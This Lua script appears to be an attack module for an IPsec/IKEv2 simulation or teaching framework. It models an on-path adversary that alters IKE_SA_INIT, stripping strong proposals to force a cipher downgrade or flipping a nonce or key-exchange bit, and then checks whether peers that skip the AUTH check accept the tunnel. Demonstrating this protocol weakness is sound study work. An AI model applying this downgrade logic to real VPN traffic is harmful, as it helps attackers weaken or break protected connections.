-- Alters the first message of the handshake, which nothing protects when it is sent, and watches whether the peers notice.
attack = {
  id = "A01", name = "tamper-sa-init",
  about = "Changes IKE_SA_INIT on its way: takes the strong algorithms out, or flips one bit of the nonce or of the public value",
  position = "on-path",
  needs = "to see the first message of a handshake",
  source = "RFC 7296, 2.15 (AUTH covers the first message), 2.14 (keys depend on nonces)",
  shows = {
    vulnerable = "a peer that does not check AUTH sets up a tunnel with what the adversary left of the offer",
    hardened = "AUTH covers the message as it was sent: the peers disagree, and no SA comes to be",
  },
  scenarios = { vulnerable = "tamper-sa-init-unread", hardened = "tamper-sa-init" },
}

-- Parameters: what = "proposals" (default), "nonce" or "ke"; only_first = "yes" leaves later attempts alone.
local what, only_first
local victim                 -- the initiator's SPI of the handshake that was altered
local altered, after = 0, 0  -- messages altered; ESP packets since then
local auth = {}              -- what IKE_AUTH messages were seen

function on_start(params)
  what = params.what or "proposals"
  only_first = params.only_first == "yes"
end

local function find(message, type)
  for _, payload in ipairs(message.payloads) do
    if payload.type == type then return payload end
  end
end

-- Leaves the last proposal, and of several ciphers in it the one with the shortest key. Returns a note, or nil if nothing was to take.
local function weaken(message)
  local sa = find(message, "SA")
  local proposals = sa.proposals
  local kept, removed = proposals[#proposals], {}
  for i = 1, #proposals - 1 do removed[#removed + 1] = "proposal " .. proposals[i].number end
  local weakest
  for _, t in ipairs(kept.transforms) do
    if t.type == 1 and (not weakest or t.key_bits < weakest.key_bits) then weakest = t end
  end
  local transforms = {}
  for _, t in ipairs(kept.transforms) do
    if t.type ~= 1 or t == weakest then
      transforms[#transforms + 1] = t
    else
      removed[#removed + 1] = t.name .. " " .. t.key_bits
    end
  end
  if #removed == 0 then return nil end
  kept.transforms = transforms
  sa.proposals, sa.body = { kept }, nil
  return "took out " .. table.concat(removed, ", ") .. "; left " .. weakest.name .. " " .. weakest.key_bits
end

local function tamper(p, message)
  if what == "proposals" then
    local note = weaken(message)
    if note then return modify(ike.encode(message), note) end
    say("nothing weaker is on offer, so the nonce must do")
  end
  local payload = find(message, what == "ke" and "KE" or "Ni/Nr")
  modify(bytes.flip(p.payload, payload.last), "flipped one bit of the " .. payload.type .. " payload, octet " .. payload.last)
end

function on_packet(p)
  if p.protocol == "ESP" then
    if altered > 0 then after = after + 1 end
    return
  end
  if p.protocol ~= "IKE" then return end
  local message = ike.of(p)
  if not message then return end
  if message.exchange_name == "IKE_SA_INIT" and not message.response then
    if only_first and victim and victim ~= message.spi_i then return end
    if not victim then
      learn("IKE SPIi " .. message.spi_i, "a handshake begins: the whole offer is readable, and so far nothing protects it",
        "IKE_SA_INIT is sent in clear", bytes.from_hex(message.spi_i))
    end
    victim = message.spi_i
    altered = altered + 1
    tamper(p, message)
  elseif message.exchange_name == "IKE_AUTH" and altered > 0 and message.spi_i == victim then
    auth[message.response and "response" or "request"] = p.size
  end
end

function on_finish()
  if altered == 0 then
    return achieved("a tunnel from an altered handshake", false, "no IKE_SA_INIT came by")
  end
  local why
  if after > 0 then
    why = "ESP flows after the altered handshake: nobody checked"
  elseif auth.response then
    why = "the keys agreed, but AUTH did not: it covers the first message as each peer saw it, and they saw different ones"
  elseif auth.request then
    why = "the responder derived other keys from the altered message, and could not open IKE_AUTH"
  else
    why = "the handshake did not get as far as IKE_AUTH"
  end
  learn("the peers", why, "IKE_AUTH request of " .. (auth.request or "no") .. " octets, response of " .. (auth.response or "no") ..
    " octets, " .. after .. " ESP packets since")
  achieved("a tunnel from an altered handshake", after > 0, why)
end
